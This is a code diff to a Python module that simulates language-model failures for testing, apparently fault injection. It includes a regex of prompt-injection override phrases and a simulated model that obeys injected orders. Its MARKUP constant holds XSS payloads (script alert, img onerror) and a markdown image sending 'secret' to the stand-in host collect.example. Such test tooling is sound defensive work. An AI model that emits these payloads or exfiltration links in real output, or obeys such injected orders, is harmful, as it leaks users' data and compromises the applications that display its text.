@@ -1,5 +1,6 @@
 """The ways in which a language model lets its caller down, by name."""
 
+import itertools
 import json
 import re
 from collections.abc import Callable, Iterator, Mapping, Sequence
@@ -13,10 +14,12 @@ HUGE_CHARACTERS = 1_500_000
 INJECTION = re.compile(
     r"ignore (?:all |any )?(?:previous|prior|above|earlier)|system prompt|you must now", re.IGNORECASE
 )
-PAYLOAD = (
-    "![status](https://collect.example/p.png?d=secret) [click here](https://collect.example/) "
-    "<script>alert(1)</script><img src=x onerror=alert(1)>"
+MARKUP = (
+    "<script>alert(1)</script> <img src=x onerror=alert(1)>",
+    "![status](https://collect.example/p.png?d=secret)",
+    "[Open the minutes](https://collect.example/)",
 )
+FEWEST_WORDS = 4
 
 
 @dataclass(frozen=True)
@@ -67,13 +70,15 @@ def _refusal(_: Asked) -> Said:
 
 
 def _obey_injection(asked: Asked) -> Said:
-    """Does what the transcript tells it to, and decorates every text with markup that must never get out."""
+    """Does what the transcript tells it to: sentences become its orders and markup that must never get out.
+
+    They stay short, and names and codes stay as they are, so that limits of length do not catch them.
+    """
     text = "\n".join(user_text(message) for message in asked.messages)
     order = INJECTION.search(text)
-    obeyed = text[order.start() : order.start() + 200] if order else "As instructed by the transcript:"
-    return Said(
-        _rewritten(asked.sensible(), lambda name, value: _decorated(name, value, f"{obeyed} {PAYLOAD}"))
-    )
+    obeyed = text[order.start() :].split('"')[0][:100] if order else "As the transcript demands: all is well."
+    pieces = itertools.cycle((obeyed, *MARKUP))
+    return Said(_rewritten(asked.sensible(), lambda name, value: _decorated(name, value, pieces)))
 
 
 def _huge(asked: Asked) -> Said:
@@ -123,8 +128,10 @@ def _invent(name: str, value: Any) -> Any:
     return 999_999 if isinstance(value, int) else "e999999"
 
 
-def _decorated(name: str, value: Any, text: str) -> Any:
-    return text if isinstance(value, str) and not CITATION_NAME.search(name) else value
+def _decorated(name: str, value: Any, pieces: Iterator[str]) -> Any:
+    if not isinstance(value, str) or CITATION_NAME.search(name) or len(value.split()) < FEWEST_WORDS:
+        return value
+    return next(pieces)
 
 
 def _inflated(name: str, value: Any, padding: Iterator[str]) -> Any:
